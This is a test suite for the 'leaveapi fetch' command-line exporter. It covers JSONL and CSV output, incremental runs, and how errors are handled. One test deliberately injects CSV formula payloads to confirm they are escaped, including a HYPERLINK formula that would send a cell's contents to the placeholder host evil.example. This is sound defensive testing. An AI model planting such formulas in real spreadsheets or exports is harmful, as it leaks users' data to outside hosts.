/**
 * `leaveapi fetch` against a running `leaveapi serve`, as an integrator runs it: every
 * record to JSONL and CSV, an incremental run that returns only what changed, bad usage
 * (exit 2) and refused credentials (exit 1, one line).
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { createClient, type LeaveApiClient } from "../client/index.ts";
import { runCli, runJson, scratchDir, startServer, type RunningServer } from "./cli-harness.ts";

const EXAMPLES = join(import.meta.dir, "../examples/import");

let server: RunningServer;
let scratch: ReturnType<typeof scratchDir>;
let db: string[];
let orgId: string;
let env: Record<string, string>;
let api: LeaveApiClient;

beforeAll(async () => {
  scratch = scratchDir();
  db = ["--db", join(scratch.dir, "fetch.sqlite")];
  orgId = (await runJson<{ id: string }>([...db, "org", "create", "--name", "Fetch Ltd"])).id;
  await runJson([...db, "org", "enable-api", orgId]);
  const creds = await runJson<{ client_id: string; client_secret: string }>([...db, "credentials", "create", "--org", orgId]);
  env = { LEAVEAPI_CLIENT_ID: creds.client_id, LEAVEAPI_CLIENT_SECRET: creds.client_secret };
  for (const kind of ["holidays", "employees", "leave"]) await runJson([...db, "import", "--org", orgId, "--kind", kind, join(EXAMPLES, `${kind}.jsonl`)]);
  server = await startServer(db);
  api = createClient({ baseUrl: server.baseUrl, clientId: creds.client_id, clientSecret: creds.client_secret });
}, 30_000);

afterAll(async () => {
  expect(await server.stop()).toBe(0);
  scratch.dispose();
});

const fetchCli = (args: string[], extraEnv: Record<string, string> = {}) =>
  runCli(["fetch", "--url", server.baseUrl, ...args], { env: { ...env, ...extraEnv } });

async function collect<T>(items: AsyncIterable<T>): Promise<T[]> {
  const out: T[] = [];
  for await (const item of items) out.push(item);
  return out;
}

const jsonLines = (text: string): unknown[] =>
  text
    .split("\n")
    .filter((l) => l !== "")
    .map((l) => JSON.parse(l) as unknown);

describe("leaveapi fetch", () => {
  test("writes every employee as JSON Lines, paging through, exactly as the API returns them", async () => {
    const result = await fetchCli(["employees", "--limit", "1"]);
    expect(result.stderr).toBe("");
    expect(result.code).toBe(0);
    expect(jsonLines(result.stdout)).toEqual(await collect(api.employees()));
    expect(jsonLines(result.stdout)).toHaveLength(3);
  }, 30_000);

  test("writes leave as CSV with leave_type flattened and quoting where needed; the file imports again unchanged", async () => {
    const output = join(scratch.dir, "leave.csv");
    const result = await fetchCli(["leave", "--from", "2026-01-01", "--to", "2026-12-31", "--format", "csv", "--output", output, "--limit", "2"]);
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(/^fetched 4 records of leave into /);
    const rows = parse(readFileSync(output, "utf8"), { columns: true }) as Record<string, string>[];
    const bookings = await collect(api.leaveRequests({ from: "2026-01-01", to: "2026-12-31" }));
    expect(rows.map((r) => r.id)).toEqual(bookings.map((b) => b.id));
    expect(Object.keys(rows[0]!)).toContain("leave_type_is_paid");
    expect(rows[0]).toMatchObject({
      leave_type_name: "Annual leave",
      leave_type_category: "annual",
      leave_type_is_paid: "true",
      start_half_period: "",
      days: String(bookings[0]!.days),
    });
    const again = await runJson<{ unchanged: number; updated: number }>([...db, "import", "--org", orgId, "--kind", "leave", output]);
    expect(again).toMatchObject({ unchanged: 4, updated: 0 });

    const people = join(scratch.dir, "employees.csv");
    expect((await fetchCli(["employees", "--format", "csv", "--output", people])).code).toBe(0);
    expect(readFileSync(people, "utf8")).toContain('"Head of Research, Data"');
  }, 30_000);

  test("--state fetches everything once, then only what changed", async () => {
    const state = join(scratch.dir, "employees.state.json");
    const output = join(scratch.dir, "changes.jsonl");
    const first = await fetchCli(["employees", "--state", state, "--skew", "0", "--output", output, "--json"]);
    expect(first.code).toBe(0);
    expect(JSON.parse(first.stdout)).toMatchObject({ records: 3, incremental: false });
    expect(jsonLines(readFileSync(output, "utf8"))).toHaveLength(3);

    const changed = join(scratch.dir, "change.jsonl");
    writeFileSync(
      changed,
      `${JSON.stringify({ external_id: "E002", first_name: "Grace", last_name: "Hopper", preferred_name: "Amazing Grace", job_title: "Rear Admiral", department: "Research", status: "active", start_date: "2019-03-11", leaving_date: null, holiday_calendar: "GB-SCT" })}\n`,
    );
    expect(await runJson([...db, "import", "--org", orgId, "--kind", "employees", changed])).toMatchObject({ updated: 1 });

    const second = await fetchCli(["employees", "--state", state, "--skew", "0", "--output", output, "--json"]);
    expect(second.code).toBe(0);
    expect(JSON.parse(second.stdout)).toMatchObject({ records: 1, incremental: true });
    expect(jsonLines(readFileSync(output, "utf8"))).toMatchObject([{ job_title: "Rear Admiral" }]);

    const other = await fetchCli(["employees", "--status", "active", "--state", state]);
    expect(other.code).toBe(1);
    expect(other.stderr).toMatch(/^leaveapi: state file .* was written for 'employees', not 'employees status=active'; use another state file\n$/);
  }, 30_000);

  test("holidays, with a warning when the secret is on the command line", async () => {
    const result = await runCli([
      "fetch",
      "--url",
      server.baseUrl,
      "--client-id",
      env.LEAVEAPI_CLIENT_ID!,
      "--client-secret",
      env.LEAVEAPI_CLIENT_SECRET!,
      "holidays",
      "--from",
      "2026-12-24",
      "--to",
      "2026-12-26",
      "--type",
      "company",
    ]);
    expect(result.code).toBe(0);
    expect(result.stderr).toMatch(/warning: a secret given as --client-secret shows in `ps`/);
    expect(jsonLines(result.stdout)).toMatchObject([{ name: "Christmas Eve closure", type: "company" }]);
  }, 30_000);

  test("bad usage exits 2 with the usage", async () => {
    for (const args of [
      [],
      ["payroll"],
      ["employees", "--from", "2026-01-01"],
      ["leave", "--from", "2026-01-01"],
      ["holidays", "--from", "2026-01-01", "--to", "2026-01-31", "--state", "x.json"],
      ["employees", "--bogus"],
      ["employees", "--limit", "0"],
      ["employees", "--format", "xml"],
    ]) {
      const result = await fetchCli(args);
      expect(result.code).toBe(2);
      expect(result.stderr).toMatch(/^leaveapi: .*\nusage: leaveapi fetch/);
    }
    const noUrl = await runCli(["fetch", "employees"], { env });
    expect(noUrl.code).toBe(2);
    const noSecret = await runCli(["fetch", "--url", server.baseUrl, "employees"], {
      env: { LEAVEAPI_CLIENT_ID: env.LEAVEAPI_CLIENT_ID!, LEAVEAPI_CLIENT_SECRET: "" },
    });
    expect(noSecret.code).toBe(2);
  }, 30_000);

  test("a wrong secret exits 1 with one line, and leaves no output file", async () => {
    const output = join(scratch.dir, "refused.jsonl");
    const result = await fetchCli(["employees", "--output", output], { LEAVEAPI_CLIENT_SECRET: "svcs_wrongwrongwrongwrongwrongwrongwrongwrongwro" });
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/^leaveapi: fetch failed: .*invalid_client.*\n$/);
    expect(result.stderr.split("\n")).toHaveLength(2);
    expect(result.stdout).toBe("");
    expect(existsSync(output)).toBe(false);
  }, 30_000);

  test("CSV cells a spreadsheet would run as formulas get a leading ', and the file imports back unchanged", async () => {
    // An organisation of its own, so that the other tests' counts stand.
    const other = (await runJson<{ id: string }>([...db, "org", "create", "--name", "Formula Ltd"])).id;
    await runJson([...db, "org", "enable-api", other]);
    const creds = await runJson<{ client_id: string; client_secret: string }>([...db, "credentials", "create", "--org", other]);
    const hostile = {
      external_id: "F1",
      first_name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      last_name: "+1-555-0100",
      preferred_name: "@SUM(A1:A9)",
      job_title: "-",
      department: "\tOps",
      status: "active",
      start_date: "2026-01-05",
      holiday_calendar: "GB-ENG",
    };
    const plain = {
      external_id: "F2",
      first_name: "Ada",
      last_name: "'t Hooft",
      preferred_name: "'=already quoted",
      job_title: "A-Team lead",
      department: "R&D",
      status: "active",
      start_date: "2026-02-01",
    };
    const source = join(scratch.dir, "formulas.jsonl");
    writeFileSync(source, `${JSON.stringify(hostile)}\n${JSON.stringify(plain)}\n`);
    await runJson([...db, "import", "--org", other, "--kind", "employees", source]);

    const output = join(scratch.dir, "formulas.csv");
    const result = await runCli(["fetch", "--url", server.baseUrl, "employees", "--format", "csv", "--output", output], {
      env: { LEAVEAPI_CLIENT_ID: creds.client_id, LEAVEAPI_CLIENT_SECRET: creds.client_secret },
    });
    expect(result.code).toBe(0);
    const rows = parse(readFileSync(output, "utf8"), { columns: true }) as Record<string, string>[];
    const byName = (first: string) => rows.find((r) => r.first_name === first || r.first_name === `'${first}`)!;
    expect(byName(hostile.first_name)).toMatchObject({
      first_name: `'${hostile.first_name}`,
      last_name: "'+1-555-0100",
      preferred_name: "'@SUM(A1:A9)",
      job_title: "'-",
      department: "'\tOps",
      // Ids, dates, statuses and calendar keys never start with such a character: as they are.
      status: "active",
      start_date: "2026-01-05",
      holiday_calendar: "GB-ENG",
    });
    expect(byName(hostile.first_name).id).toMatch(/^[0-9a-f-]{36}$/);
    expect(byName("Ada")).toMatchObject({ last_name: "'t Hooft", preferred_name: "''=already quoted", job_title: "A-Team lead", department: "R&D" });
    // Not a cell of the file starts with a formula character.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r\0]/);

    const again = await runJson<{ unchanged: number; updated: number }>([...db, "import", "--org", other, "--kind", "employees", output]);
    expect(again).toMatchObject({ unchanged: 2, updated: 0 });
  }, 30_000);

  test("a server that is not there exits 1 with one line", async () => {
    const result = await runCli(["fetch", "--url", "http://127.0.0.1:1", "employees"], { env });
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/^leaveapi: fetch failed: No answer from http:\/\/127\.0\.0\.1:1: .*\(network_error\)\n$/);
  }, 30_000);
});
